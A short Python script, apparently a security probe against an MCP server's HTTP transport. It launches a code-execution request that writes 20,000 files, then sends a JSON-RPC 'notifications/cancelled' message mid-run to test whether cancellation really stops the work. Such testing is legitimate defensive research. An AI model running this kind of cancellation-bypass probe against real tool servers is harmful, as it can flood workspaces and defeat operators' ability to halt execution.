# HTTP variant: the client's notifications/cancelled (a second POST) during the commit
import sys, time, json, os, threading, subprocess
sys.path.insert(0,"/tmp/atk29x")
from mcp import *
s=Sess()
d=sys.argv[1] if len(sys.argv)>1 else "manyh"
out={}
def go():
    out["r"]=py(s,'''
import os
os.makedirs('%s',exist_ok=True)
for i in range(20000): open('%s/f%%d'%%i,'w').write('x')
'''%(d,d))
th=threading.Thread(target=go); th.start()
seen=False
while True:
    o=subprocess.run(["pgrep","-f","exec\\(base64"],capture_output=True,text=True).stdout.split()
    if o: seen=True
    if seen and not o: break
    time.sleep(0.01)
time.sleep(0.3)
print(s.post({"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":s.n,"reason":"x"}}))
th.join()
print(json.dumps(out["r"])[:400])
print("files in workspace:", len(os.listdir("/tmp/atk29x/ws/"+d)) if os.path.exists("/tmp/atk29x/ws/"+d) else 0)
